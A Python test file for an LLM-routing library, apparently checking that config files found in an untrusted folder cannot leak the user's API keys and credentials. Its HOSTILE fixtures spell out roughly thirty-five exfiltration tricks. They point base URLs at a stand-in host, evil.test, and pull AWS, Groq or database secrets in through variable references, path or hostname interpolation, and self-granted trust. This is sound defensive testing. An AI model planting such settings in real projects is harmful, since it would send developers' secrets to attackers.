"""A settings file or a `.env` that was merely found sends none of the user's keys anywhere else.

Each row is a folder that somebody else made, opened by a user whose environment holds keys. The
folder's own keys may go to its own addresses.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
from click.testing import CliRunner

from freerouter_core import Provider, Router, errors
from freerouter_core.apps.cli.main import cli
from freerouter_core.settings.environment import Settings

SECRETS = {
    "OPENROUTER_API_KEY": "sk-or-v1-the-users-own",
    "GROQ_API_KEY": "gsk_theusersowngroqkey",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIusersown",
    "DATABASE_URL": "postgres://bob:users-own-pw@db/x",
    "EVIL_SESSION": "users-own-session",
}
"""What the user's environment holds."""
EVIL = "https://evil.test/v1"


@pytest.fixture
def requests(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[httpx.Request]]:
    """Every request that is sent, to whatever host. Each host answers."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    sent: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        if request.method == "GET":
            row = {"id": "a/b:free", "pricing": {"prompt": "0", "completion": "0"}}
            return httpx.Response(200, json={"data": [row]})
        message = {"role": "assistant", "content": "hello"}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        return httpx.Response(200, json={"id": "1", "model": "a/b:free", "choices": [choice]})

    with respx.mock(assert_all_called=False) as mock:
        mock.route().mock(side_effect=answer)
        yield sent


def write(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (folder / name).write_text(text)


def text_of(request: httpx.Request) -> str:
    return f"{request.url} {request.headers.raw} {request.content!r}"


def ask(**options: Any) -> errors.FreeRouterError | None:
    try:
        Router(timeout=5.0, max_retries=1, **options).chat("hello")
    except errors.FreeRouterError as error:
        return error
    return None


@dataclass
class Folder:
    """A folder, and the options of the code that runs in it."""

    files: dict[str, str]
    options: dict[str, Any] = field(default_factory=dict)


def toml(text: str, **options: Any) -> Folder:
    return Folder({"freerouter.toml": text}, options)


HOSTILE = {
    "address in .env": Folder({".env": f"OPENROUTER_BASE_URL={EVIL}"}),
    "in lower case": Folder({".env": f"openrouter_base_url={EVIL}"}),
    "exported form": Folder({".env": f"export OPENROUTER_BASE_URL='{EVIL}'"}),
    "address in secrets.env": Folder({"secrets.env": f"OPENROUTER_BASE_URL={EVIL}"}),
    "key in the other file": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}", "secrets.env": "OPENROUTER_API_KEY=sk-or-the-users"}
    ),
    "key in code": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}"}, {"api_key": SECRETS["OPENROUTER_API_KEY"]}
    ),
    "key in a header in code": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}"},
        {"providers": [Provider("openrouter", headers={"x": SECRETS["OPENROUTER_API_KEY"]})]},
    ),
    "key by reference": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}\nOPENROUTER_API_KEY=${{OPENROUTER_API_KEY}}"}
    ),
    "another secret as the key": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}\nOPENROUTER_API_KEY=${{AWS_SECRET_ACCESS_KEY}}"}
    ),
    "another secret with a default": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}\nOPENROUTER_API_KEY=${{AWS_SECRET_ACCESS_KEY:-x}}"}
    ),
    "a secret in the address": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}/${{GROQ_API_KEY}}\nOPENROUTER_API_KEY=sk-or-theirs"}
    ),
    "two steps": Folder(
        {".env": f"A=${{GROQ_API_KEY}}\nOPENROUTER_BASE_URL={EVIL}/${{A}}\nOPENROUTER_API_KEY=x-y"}
    ),
    "a variable in the value of the address": Folder(
        {".env": f"OPENROUTER_BASE_URL={EVIL}/{{GROQ_API_KEY}}\nOPENROUTER_API_KEY=sk-or-theirs"}
    ),
    "address in toml": toml(f'openrouter_base_url = "{EVIL}"'),
    "address in upper case in toml": toml(f'OPENROUTER_BASE_URL = "{EVIL}"'),
    "a known provider moved": toml(
        f'[providers.groq]\nbase_url = "{EVIL}"', providers=["openrouter", "groq"]
    ),
    "a known provider's list moved": toml(
        f'[providers.groq]\nmodels = "{EVIL}/models"', providers=["openrouter", "groq"]
    ),
    "openrouter moved": toml(f'[providers.openrouter]\nbase_url = "{EVIL}"'),
    "a known provider that needs no key": toml(
        f'[providers.ollama]\nbase_url = "{EVIL}"', providers=["ollama"]
    ),
    "any variable as a key": toml(
        f'[providers.lab]\nbase_url = "{EVIL}"\nkeys = ["AWS_SECRET_ACCESS_KEY"]',
        providers=["openrouter", "lab"],
    ),
    "any variable, not named in code": toml(
        f'[providers.lab]\nbase_url = "{EVIL}"\nkeys = ["AWS_SECRET_ACCESS_KEY"]'
    ),
    "a name that fits the variable": toml(
        f'[providers.aws]\nbase_url = "{EVIL}"\nkeys = ["AWS_SECRET_ACCESS_KEY"]'
    ),
    "and asks for itself": toml(
        f'freerouter_providers = ["aws"]\n[providers.aws]\nbase_url = "{EVIL}"\n'
        'keys = ["AWS_SECRET_ACCESS_KEY"]'
    ),
    "and the .env asks for it": Folder(
        {
            ".env": "FREEROUTER_PROVIDERS=aws",
            "freerouter.toml": f'[providers.aws]\nbase_url = "{EVIL}"\n'
            'keys = ["AWS_SECRET_ACCESS_KEY"]',
        }
    ),
    "under all": toml(
        f'[providers.aws]\nbase_url = "{EVIL}"\nkeys = ["AWS_SECRET_ACCESS_KEY"]', providers="all"
    ),
    "keyless": toml(f'[providers.free]\nbase_url = "{EVIL}"\nkeyless = true', keyless=True),
    "a name that is half a variable": toml(
        f'[providers.open]\nbase_url = "{EVIL}"\nkeys = ["OPENROUTER_API_KEY"]',
        providers=["open"],
    ),
    "another provider's key among its own": toml(
        f'[providers.lab]\nbase_url = "{EVIL}"\nkeys = ["LAB_KEY", "GROQ_API_KEY"]',
        providers=["lab"],
    ),
    "a variable in the address": toml(
        f'[providers.lab]\nbase_url = "{EVIL}/{{DATABASE_URL}}"\nkeyless = true', providers=["lab"]
    ),
    "a variable in the host": toml(
        '[providers.lab]\nbase_url = "https://{DATABASE_URL}.evil.test/v1"\nkeyless = true',
        providers=["lab"],
    ),
    "a variable in the address of the list": toml(
        f'[providers.lab]\nbase_url = "{EVIL}"\nmodels = "{EVIL}/{{DATABASE_URL}}"\nkeyless = true',
        providers=["lab"],
    ),
    "a key of its own name in the address": toml(
        f'[providers.aws]\nbase_url = "{EVIL}/{{AWS_SECRET_ACCESS_KEY}}"\nkeyless = true',
        providers=["aws"],
    ),
    "trust in the folder itself": Folder(
        {".env": f"FREEROUTER_TRUST=1\nOPENROUTER_BASE_URL={EVIL}"}
    ),
    "yaml": Folder({"freerouter.yaml": f"openrouter_base_url: {EVIL}"}),
    "another variable of its own name, at a known provider": toml(
        '[providers.groq]\nkeys = ["AWS_SECRET_ACCESS_KEY"]', providers=["groq"]
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_found_file_sends_no_key_of_the_user_elsewhere(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, requests: list[httpx.Request]
) -> None:
    folder = HOSTILE[name]
    write(tmp_path, folder.files)
    if any("{" in text for text in folder.files.values()):  # the folder's key is the one in use
        monkeypatch.delenv("OPENROUTER_API_KEY")
    error = ask(**folder.options)

    for request in requests:
        if request.url.host.endswith("evil.test"):
            assert folder.files.keys() == {".env"}, "only what the folder pays for itself"
            text = text_of(request)
            assert not any(secret in text for secret in SECRETS.values())
        elif request.url.host == "api.groq.com":
            assert SECRETS["AWS_SECRET_ACCESS_KEY"] not in text_of(request)
    shown = f"{error} {error and error.hint}"
    assert not any(secret in shown for secret in SECRETS.values())


@pytest.mark.parametrize(
    ("name", "origins"),
    [
        ("address in .env", ("environment", ".env")),
        ("key in the other file", ("secrets.env", ".env")),
        ("key in code", ("code", ".env")),
        ("address in toml", ("environment", "freerouter.toml")),
    ],
)
def test_a_pair_that_does_not_belong_together_is_refused_with_both_origins(
    name: str,
    origins: tuple[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    requests: list[httpx.Request],
) -> None:
    folder = HOSTILE[name]
    write(tmp_path, folder.files)
    if "secrets.env" in origins:
        monkeypatch.delenv("OPENROUTER_API_KEY")
    error = ask(**folder.options)

    assert isinstance(error, errors.BadSetting)
    assert f"comes from {origins[0]} and" in error.message
    assert origins[1] in error.message
    assert "freerouter trust" in error.hint
    assert not requests


PROXY = "https://proxy.test/v1"
HONEST: dict[str, tuple[Folder, dict[str, str], str]] = {
    "both in .env": (
        Folder({".env": f"OPENROUTER_BASE_URL={PROXY}\nOPENROUTER_API_KEY=sk-or-theirs"}),
        {"OPENROUTER_API_KEY": ""},
        "proxy.test",
    ),
    "the key in .env": (
        Folder({".env": "OPENROUTER_API_KEY=sk-or-theirs"}),
        {"OPENROUTER_API_KEY": ""},
        "openrouter.ai",
    ),
    "a reference within .env": (
        Folder({".env": "P=proxy\nOPENROUTER_BASE_URL=https://${P}.test\nOPENROUTER_API_KEY=sk-x"}),
        {"OPENROUTER_API_KEY": ""},
        "proxy.test",
    ),
    "both in the environment": (Folder({}), {"OPENROUTER_BASE_URL": PROXY}, "proxy.test"),
    "the environment's address, the key of .env": (
        Folder({".env": "OPENROUTER_API_KEY=sk-or-theirs"}),
        {"OPENROUTER_BASE_URL": PROXY, "OPENROUTER_API_KEY": ""},
        "proxy.test",
    ),
    "an address in code": (
        Folder({".env": "OPENROUTER_API_KEY=sk-or-theirs"}, {"base_url": PROXY}),
        {},
        "proxy.test",
    ),
    "a provider of its own, named in code": (
        toml(
            '[providers.lab]\nbase_url = "https://{LAB_HOST}/v1"\nkeys = ["LAB_API_KEY"]',
            providers=["lab"],
        ),
        {"LAB_API_KEY": "lab-key-12", "LAB_HOST": "lab.test"},
        "lab.test",
    ),
    "a provider of its own, named in the environment": (
        toml('[providers.lab]\nbase_url = "https://lab.test/v1"\nkeys = ["LAB_API_KEY"]'),
        {"LAB_API_KEY": "l-1", "FREEROUTER_PROVIDERS": "lab", "OPENROUTER_API_KEY": ""},
        "lab.test",
    ),
    "limits of a known provider": (
        toml('[providers.groq]\nlimits = []\nfree = ["a/b:free"]', providers=["groq"]),
        {},
        "api.groq.com",
    ),
    "a trusted container": (
        Folder({".env": f"OPENROUTER_BASE_URL={PROXY}"}),
        {"FREEROUTER_TRUST": "1"},
        "proxy.test",
    ),
    "a local server's address": (
        Folder({".env": "OLLAMA_BASE_URL=http://gpu.test:11434/v1"}, {"providers": ["ollama"]}),
        {},
        "gpu.test",
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_project_needs_nothing_more(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, requests: list[httpx.Request]
) -> None:
    folder, variables, host = HONEST[name]
    write(tmp_path, folder.files)
    for variable, value in variables.items():
        monkeypatch.setenv(variable, value)

    assert ask(**folder.options) is None
    assert {request.url.host for request in requests} == {host}


def test_the_users_own_settings_file_may_do_all_of_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, requests: list[httpx.Request]
) -> None:
    own = tmp_path / "config" / "freerouter"
    own.mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    text = f'openrouter_base_url = "{PROXY}"\n[providers.groq]\nbase_url = "https://lab.test/v1"'
    (own / "freerouter.toml").write_text(text)
    assert ask() is None
    assert {request.url.host for request in requests} == {"proxy.test", "lab.test"}


def test_trust_lasts_until_the_file_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, requests: list[httpx.Request]
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    run = CliRunner()
    assert run.invoke(cli, ["trust", "-y"]).exit_code == 1
    write(tmp_path, {".env": f"OPENROUTER_BASE_URL={PROXY}/${{EVIL_SESSION}}"})
    assert isinstance(ask(), errors.BadSetting)
    assert run.invoke(cli, ["trust"], input="n\n").exit_code == 1
    assert isinstance(ask(), errors.BadSetting)
    assert run.invoke(cli, ["trust"], input="y\n").exit_code == 0
    assert ask() is None
    assert requests[0].url.path.startswith("/v1/users-own-session")
    write(tmp_path, {".env": f"OPENROUTER_BASE_URL={EVIL}"})
    assert isinstance(ask(), errors.BadSetting)
    assert run.invoke(cli, ["trust", "-y"]).exit_code == 0
    assert not Settings.load().environment.sources[2].found
    assert run.invoke(cli, ["trust", "--forget"]).exit_code == 0
    assert isinstance(ask(), errors.BadSetting)


def test_settings_know_where_each_key_and_address_comes_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GROQ_API_KEY", "gsk_x")
    write(
        tmp_path,
        {
            ".env": "LAB_KEY=a\nOPENROUTER_BASE_URL=https://x/v1",
            "freerouter.toml": 'chat_model="m"',
        },
    )
    settings = Settings.load()
    assert settings.origin("GROQ_API_KEY") == "environment"
    assert settings.origin("LAB_KEY") == settings.origin("openrouter_base_url") == ".env"
    assert settings.origin("chat_model").endswith("freerouter.toml")
    assert settings.origin("NOBODY_KEY") == "default"


@pytest.mark.parametrize("name", [".env", "freerouter.toml"])
def test_a_file_without_an_end_is_not_read(name: str, tmp_path: Path) -> None:
    (tmp_path / name).symlink_to("/dev/zero")
    with contextlib.suppress(errors.BadSetting):  # or it is no file
        Settings.load()
    (tmp_path / name).unlink()
    (tmp_path / name).write_text("# " + "x" * 1_000_001)
    with pytest.raises(errors.BadSetting, match="cannot be read"):
        Settings.load()
